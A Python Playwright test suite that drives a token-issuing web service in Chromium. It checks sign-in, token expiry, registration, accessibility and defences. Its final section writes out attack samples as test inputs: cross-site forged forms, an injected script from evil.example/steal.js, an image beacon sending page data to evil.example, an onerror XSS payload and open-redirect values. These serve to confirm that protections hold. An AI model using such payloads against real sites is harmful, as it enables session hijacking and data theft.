"""The pages, clicked through in a real Chromium against the real server.

Every `page` fails its test for an error on the console, a violation of the policy among them, and
for a request to another host; every `inspect` for what axe-core finds, in light and in dark, and
for a page that is wider than a phone.
"""

import json
import re
import shlex
import subprocess
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, BrowserContext, Error, Page, Route, expect

from api.claims import LIFETIME
from api.tests.support.chromium import call_private_from_docs, inspect, watched_page
from api.tests.support.server import EXPIRED_TOKEN, Server

pytestmark = pytest.mark.browser
EVIL = "http://evil.example/"
SET_UP = """
from django.contrib.auth.models import User
from api.credentials import create_client
create_client("foo", secret="bar", scopes=["read", "write"])
create_client("mallory", secret="mallory's")
User.objects.create_superuser("staff", password="correct horse battery staple")
"""


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory, migrated: Path) -> Iterator[Server]:
    """A running service with the client `foo`, whose secret is `bar`, and somebody of the staff."""
    server = Server.with_copy(tmp_path_factory.mktemp("site"), migrated)
    server.shell(SET_UP)
    with server.running():
        yield server


@pytest.fixture
def victim(browser: Browser) -> Iterator[BrowserContext]:
    """A profile with nobody watching, for pages that are meant to go wrong."""
    context = browser.new_context()
    context.set_default_timeout(5_000)
    yield context
    context.close()


def sign_in(page: Page, *credentials: str) -> None:
    client_id, client_secret = credentials or ("foo", "bar")
    page.get_by_label("Client id").fill(client_id)
    page.get_by_label("Client secret", exact=True).fill(client_secret)
    page.get_by_role("button", name="Sign in").click()


def expect_signed_in(page: Page, client_id: str) -> None:
    bar = page.get_by_role("banner")
    expect(bar.get_by_text(client_id, exact=True)).to_be_visible()
    expect(bar.get_by_role("timer")).to_have_text(re.compile(r"[45]:\d\d"))


def run(command: str) -> str:
    """Run a command as a shell would, but for the shell."""
    arguments = shlex.split(command.replace("\\\n", " "))
    return subprocess.run(
        ["curl", "--silent", *arguments[1:]], capture_output=True, text=True, check=True, timeout=20
    ).stdout


def copied(page: Page, what: str) -> str:
    button = page.get_by_role("button", name=f"Copy {what}", exact=True)
    button.click()
    expect(button).to_have_text("Copied")
    return str(page.evaluate("navigator.clipboard.readText()"))


# To look and to understand


def test_walk_through_of_the_root_runs_as_it_is_copied(page: Page, site: Server) -> None:
    page.goto(site.url)
    inspect(page, "root")
    first, second, third, fourth = (
        copied(page, f"the {number} command") for number in ("first", "second", "third", "fourth")
    )
    assert "public area" in run(first)
    assert "missing_token" in run(second)
    token = json.loads(run(third))["access_token"]
    assert "protected area" in run(fourth.replace("<token>", token))


def test_every_link_of_the_root_leads_somewhere(page: Page, site: Server) -> None:
    page.goto(site.url)
    links = page.locator("a[href]").evaluate_all("links => links.map(link => link.href)")
    for link in set(links):
        request = urllib.request.Request(link, headers={"Accept": "text/html, */*"})
        try:
            status = urllib.request.urlopen(request).status
        except urllib.error.HTTPError as error:
            with error:
                status = error.code
        path = urlsplit(link).path
        needs_token = {"/private", "/token", "/clients", "/metrics"}
        expected = 403 if path in needs_token else 400 if path == "/authorize" else 200
        assert status == expected, link


def test_public_page_shows_what_a_program_gets(page: Page, site: Server) -> None:
    page.goto(f"{site.url}/public")
    expect(page.get_by_text('"message": "Welcome to the public area :)"')).to_be_visible()
    assert page.get_by_role("button", name="POST").count() == 0
    inspect(page, "public")
    assert "public area" in run(copied(page, "the command"))


def test_what_programs_fetch_is_a_page_too(page: Page, site: Server) -> None:
    page.goto(f"{site.url}/.well-known/jwks.json")
    expect(page.get_by_text('"kty": "EC"')).to_be_visible()
    inspect(page, "keys")
    page.goto(f"{site.url}/readyz")
    expect(page.get_by_text('"status": "ok"')).to_be_visible()
    inspect(page, "ready")


def test_unknown_path_is_a_page(page: Page, site: Server) -> None:
    page.goto(f"{site.url}/nowhere")
    inspect(page, "not-found")
    page.get_by_role("link", name="See all endpoints").click()
    expect(page).to_have_url(f"{site.url}/")


# To sign in


def test_signing_in_shows_the_token_and_opens_the_private_route(page: Page, site: Server) -> None:
    page.goto(site.url)
    page.get_by_role("banner").get_by_role("link", name="Sign in").click()
    inspect(page, "sign-in")
    secret = page.get_by_label("Client secret", exact=True)
    page.get_by_role("button", name="Show the client secret").click()
    expect(secret).to_have_attribute("type", "text")
    page.get_by_role("button", name="Show the client secret").click()
    expect(secret).to_have_attribute("type", "password")

    sign_in(page, "foo", "not bar")
    expect(page.get_by_role("alert")).to_have_text("The client credentials are not valid.")
    expect(page.get_by_label("Client id")).to_have_value("foo")
    expect(secret).to_have_value("")
    expect(secret).to_be_focused()
    inspect(page, "sign-in-refused")

    sign_in(page)
    expect_signed_in(page, "foo")
    inspect(page, "token")
    token = copied(page, "the token")
    assert token.count(".") == 2
    command = copied(page, "the command")
    assert token in command
    assert "protected area" in run(command)

    page.get_by_role("link", name="open /private").click()
    expect(page.get_by_text('"message": "Welcome to the protected area :)"')).to_be_visible()
    expect_signed_in(page, "foo")
    inspect(page, "private")
    assert "protected area" in run(copied(page, "the command"))

    page.get_by_role("banner").get_by_role("link", name="Token").click()
    expect(page).to_have_url(f"{site.url}/token")
    assert copied(page, "the token") == token
    fetched = "fetch('/token', {headers: {Accept: 'text/html'}}).then(page => page.text())"
    assert token not in page.evaluate(fetched)


def test_signing_out_ends_it_and_signing_in_returns(page: Page, site: Server) -> None:
    page.goto(f"{site.url}/login")
    sign_in(page)
    page.goto(f"{site.url}/logout")
    expect_signed_in(page, "foo")
    inspect(page, "sign-out")
    page.get_by_role("main").get_by_role("button", name="Sign out").click()
    expect(page).to_have_url(f"{site.url}/")
    page.get_by_role("banner").get_by_role("link", name="Private").click()
    expect(page.get_by_role("alert")).to_contain_text("An access token is required")
    inspect(page, "private-refused")
    page.get_by_role("main").get_by_role("link", name="Sign in").click()
    sign_in(page)
    expect(page).to_have_url(f"{site.url}/private")
    expect(page.get_by_text('"message": "Welcome to the protected area :)"')).to_be_visible()


def test_expired_token_offers_the_sign_in_and_returns(page: Page, site: Server) -> None:
    cookie = {"name": "access_token", "value": site.shell(EXPIRED_TOKEN), "url": site.url}
    page.context.add_cookies([cookie])  # type: ignore[list-item]
    response = page.goto(f"{site.url}/private")
    assert response is not None
    assert response.status == 401
    expect(page.get_by_role("alert")).to_contain_text("The access token has expired")
    inspect(page, "private-expired")
    page.get_by_role("main").get_by_role("link", name="Sign in").click()
    sign_in(page)
    expect(page).to_have_url(f"{site.url}/private")
    expect_signed_in(page, "foo")


def test_signing_in_needs_no_mouse(page: Page, site: Server) -> None:
    page.goto(site.url)
    for _ in range(20):
        page.keyboard.press("Tab")
        if page.evaluate("document.activeElement.textContent") == "Sign in":
            break
    page.keyboard.press("Enter")
    expect(page.get_by_label("Client id")).to_be_focused()
    page.keyboard.type("foo")
    page.keyboard.press("Tab")
    page.keyboard.type("bar")
    page.keyboard.press("Enter")
    expect(page.get_by_role("heading", name="Your access token")).to_be_visible()
    page.keyboard.press("Tab")
    expect(page.get_by_role("link", name="Skip to the content")).to_be_focused()
    page.keyboard.press("Enter")
    page.keyboard.press("Tab")
    page.keyboard.press("Tab")
    page.keyboard.press("Enter")
    assert page.evaluate("navigator.clipboard.readText()").startswith("eyJ")


def test_signing_in_needs_no_script(browser: Browser, site: Server) -> None:
    with watched_page(browser, java_script_enabled=False) as page:
        page.goto(f"{site.url}/login?next=/private")
        sign_in(page)
        expect(page).to_have_url(f"{site.url}/private")
        page.get_by_role("button", name="Sign out").click()
        expect(page).to_have_url(f"{site.url}/")


# Time passes


def wind(page: Page, timer: str, *, before: float) -> None:
    """Stop the page's clock some milliseconds before a timer's end."""
    deadline = page.locator(timer).evaluate("timer => timer.deadline")
    page.clock.pause_at((deadline - before) / 1000)


def test_countdown_turns_to_expired_at_the_right_second(page: Page, site: Server) -> None:
    page.clock.install()
    page.goto(f"{site.url}/login")
    sign_in(page)
    bar, text = page.get_by_role("banner"), page.locator("main .countdown")
    minutes = LIFETIME // 60
    expect(bar.get_by_role("timer")).to_have_text(re.compile(rf"{minutes - 1}:5\d|{minutes}:00"))
    wind(page, "main .countdown", before=60_900)
    expect(bar.get_by_role("timer")).to_have_text("1:01")
    wind(page, "main .countdown", before=900)
    expect(bar.get_by_role("timer")).to_have_text("0:01")
    expect(text).to_have_text("It expires in 0:01 minutes.")
    page.clock.run_for(850)
    expect(text).to_have_text("It expires in 0:01 minutes.")
    page.clock.run_for(350)
    expect(text).to_have_text("It has expired.")
    expect(bar.get_by_role("timer")).to_have_text("expired")
    expect(bar.get_by_role("button", name="Sign out")).to_be_hidden()
    page.clock.resume()
    inspect(page, "token-expired")
    bar.get_by_role("link", name="Sign in").click()
    expect(page).to_have_url(f"{site.url}/login")


def test_countdown_is_the_tokens_own(page: Page, site: Server) -> None:
    page.goto(f"{site.url}/login")
    sign_in(page)
    expiry = page.get_by_role("row", name="exp ").locator("td code").inner_text()
    deadline = page.locator("main .countdown").evaluate("timer => timer.deadline / 1000")
    assert abs(deadline - int(expiry)) < 2


def test_throttled_sign_in_counts_the_time_down(page: Page, site: Server) -> None:
    page.goto(f"{site.url}/login")
    for _ in range(10):
        sign_in(page, "guessed", "wrong")
    page.clock.install()
    sign_in(page, "guessed", "wrong")
    alert = page.get_by_role("alert")
    expect(alert).to_contain_text("Too many attempts; try again later.")
    expect(alert).to_contain_text(re.compile(r"You can try again in [01]:\d\d\."))
    wind(page, "main .countdown", before=900)
    expect(alert).to_contain_text("You can try again in 0:01.")
    page.clock.run_for(1_200)
    expect(alert).to_contain_text("You can try again now.")
    page.clock.resume()
    inspect(page, "sign-in-throttled")


# To register, to call


def test_registered_client_sees_its_secret_once_and_can_use_it(page: Page, site: Server) -> None:
    page.goto(site.url)
    page.get_by_role("banner").get_by_role("link", name="Register").click()
    inspect(page, "register")
    page.get_by_label("Name").fill("Nightly report")
    page.get_by_role("button", name="Register").click()
    expect(page.get_by_text("Nightly report")).to_be_visible()
    client_id, secret = copied(page, "the client id"), copied(page, "the client secret")
    assert json.loads(run(copied(page, "the command")))["token_type"] == "Bearer"
    inspect(page, "registered")
    page.get_by_role("link", name="sign-in page").click()
    sign_in(page, client_id, secret)
    expect_signed_in(page, client_id)


def test_back_button_brings_no_secret_back(victim: BrowserContext, site: Server) -> None:
    page = victim.new_page()
    page.goto(f"{site.url}/register")
    page.get_by_role("button", name="Register").click()
    expect(page.locator("#client-secret")).to_have_text(re.compile("adsk_"))
    page.goto(f"{site.url}/public")
    with pytest.raises(Error, match="ERR_CACHE_MISS"):  # the page was kept nowhere
        page.go_back()


def test_client_passes_its_scopes_on(page: Page, site: Server) -> None:
    page.goto(f"{site.url}/login?next=/register")
    sign_in(page)
    page.get_by_label("Scope").fill("read")
    page.get_by_role("button", name="Register").click()
    expect(page.get_by_role("definition").last).to_have_text("read")


def test_token_is_looked_into_and_revoked_by_form_and_by_raw_data(page: Page, site: Server) -> None:
    page.goto(f"{site.url}/login")
    sign_in(page)
    token = copied(page, "the token")

    page.goto(f"{site.url}/introspect")
    inspect(page, "introspect")
    page.get_by_label("Client id").fill("foo")
    page.get_by_label("Client secret", exact=True).fill("bar")
    page.get_by_label("Token").fill(token)
    page.get_by_role("button", name="POST").click()
    expect(page.get_by_text('"active": true')).to_be_visible()
    inspect(page, "introspected")

    page.goto(f"{site.url}/revoke")
    page.get_by_text("Raw data").click()
    inspect(page, "raw-data")
    body = {"client_id": "foo", "client_secret": "bar", "token": token}
    page.get_by_label("Content").fill(json.dumps(body))
    page.get_by_role("button", name="POST").click()
    expect(page.get_by_text("HTTP 200 OK")).to_be_visible()
    expect(page.get_by_role("banner").get_by_role("link", name="Sign in")).to_be_visible()
    page.get_by_role("banner").get_by_role("link", name="Private").click()
    expect(page.get_by_role("alert")).to_contain_text("An access token is required")


def test_docs_say_that_a_secret_is_wrong_without_a_dialog_of_the_browsers(
    page: Page, site: Server
) -> None:
    page.goto(f"{site.url}/docs")
    page.get_by_role("button", name="Authorize").first.click()
    expect(page.locator(".auth-container").first).to_contain_text("clientCredentials")
    expect(page.get_by_role("textbox", name="client_id:")).to_be_focused()
    page.get_by_role("textbox", name="client_id:").fill("foo")
    page.get_by_role("textbox", name="client_secret:").fill("wrong")
    with page.expect_response(f"{site.url}/login") as response:
        page.get_by_role("button", name="Apply given OAuth2 credentials").click()
    assert response.value.status == 401
    assert response.value.headers["www-authenticate"].startswith("Form ")
    error = page.locator(".auth-container .errors")
    expect(error).to_contain_text("The client credentials are not valid.")
    inspect(page, "docs-refused")


def test_docs_authorize_with_client_id_and_secret(page: Page, site: Server) -> None:
    page.goto(f"{site.url}/docs")
    expect(page.locator(".opblock").first).to_be_visible()
    inspect(page, "docs")
    expect(call_private_from_docs(page)).to_contain_text("Welcome to the protected area :)")
    inspect(page, "docs-called")


def test_admin_looks_the_same(page: Page, site: Server) -> None:
    page.goto(f"{site.url}/admin/")
    inspect(page, "admin-sign-in")
    page.get_by_label("Username").fill("staff")
    page.get_by_label("Password").fill("correct horse battery staple")
    page.get_by_role("button", name="Log in").click()
    inspect(page, "admin")
    page.get_by_role("link", name="Clients", exact=True).first.click()
    inspect(page, "admin-clients")
    page.get_by_role("link", name="foo").click()
    inspect(page, "admin-client")


# What another site could try


def open_evil_page(context: BrowserContext, html: str) -> Page:
    """Open a page of another site, which no request leaves the machine for."""

    def answer(route: Route) -> None:
        route.fulfill(content_type="text/html", body=html)

    page = context.new_page()
    page.route(f"{EVIL}**", answer)
    page.goto(EVIL)
    return page


def names_of_cookies(context: BrowserContext) -> set[str]:
    return {cookie["name"] for cookie in context.cookies()}


def test_no_other_site_signs_a_browser_in(victim: BrowserContext, site: Server) -> None:
    victim.new_page().goto(f"{site.url}/login")  # there is a CSRF cookie already
    page = open_evil_page(
        victim,
        f"""<form method="post" action="{site.url}/login">
        <input name="grant_type" value="client_credentials">
        <input name="client_id" value="mallory">
        <input name="client_secret" value="mallory's">
        <input name="csrfmiddlewaretoken" value="{"a" * 64}"><button></button></form>""",
    )
    page.get_by_role("button").click()
    expect(page.locator("body")).to_contain_text("Requests from pages of other sites are refused")
    assert "access_token" not in names_of_cookies(victim)


@pytest.mark.parametrize("path", ["/logout", "/register", "/revoke"])
def test_no_other_site_posts_with_the_cookie(
    victim: BrowserContext, site: Server, path: str
) -> None:
    page = victim.new_page()
    page.goto(f"{site.url}/login")
    sign_in(page)
    expect_signed_in(page, "foo")
    evil = open_evil_page(
        victim, f'<form method="post" action="{site.url}{path}"><button></button></form>'
    )
    with evil.expect_response(f"{site.url}{path}") as sent:
        evil.get_by_role("button").click()
    assert "access_token" not in sent.value.request.all_headers().get("cookie", "")
    assert sent.value.status == 403
    page.goto(f"{site.url}/private")
    expect_signed_in(page, "foo")


def test_no_other_site_frames_or_reads_a_page(victim: BrowserContext, site: Server) -> None:
    page = open_evil_page(victim, f'<iframe src="{site.url}/login"></iframe>')
    assert "Client secret" not in page.frames[-1].content()
    read = f"fetch('{site.url}/private', {{credentials: 'include'}}).then(r => r.text())"
    with pytest.raises(Error, match="Failed to fetch"):
        page.evaluate(read)


def test_no_script_reads_the_token_and_none_can_be_put_in(
    victim: BrowserContext, site: Server
) -> None:
    page = victim.new_page()
    page.goto(f"{site.url}/login")
    sign_in(page)
    expect_signed_in(page, "foo")
    assert "access_token" in names_of_cookies(victim)
    assert "access_token" not in page.evaluate("document.cookie")
    page.evaluate(
        """() => {
            window.violations = [];
            addEventListener("securitypolicyviolation", event => violations.push(event.blockedURI));
            const inline = document.createElement("script");
            inline.textContent = "window.owned = true";
            const foreign = document.createElement("script");
            foreign.src = "http://evil.example/steal.js";
            const image = new Image();
            image.src = "http://evil.example/?" + document.body.textContent.length;
            document.body.append(inline, foreign, image);
            document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='owned = true'>");
        }"""
    )
    page.wait_for_function("violations.length >= 4")
    assert page.evaluate("window.owned") is None
    assert {"inline", "http://evil.example/steal.js"} < set(page.evaluate("violations"))


@pytest.mark.parametrize(
    "destination", [EVIL, "//evil.example/", "/\\evil.example/", "javascript:1"]
)
def test_next_leads_to_no_other_site(page: Page, site: Server, destination: str) -> None:
    page.goto(f"{site.url}/login?next={destination}")
    sign_in(page)
    expect(page.get_by_role("heading", name="Your access token")).to_be_visible()
    assert page.url.startswith(f"{site.url}/login")
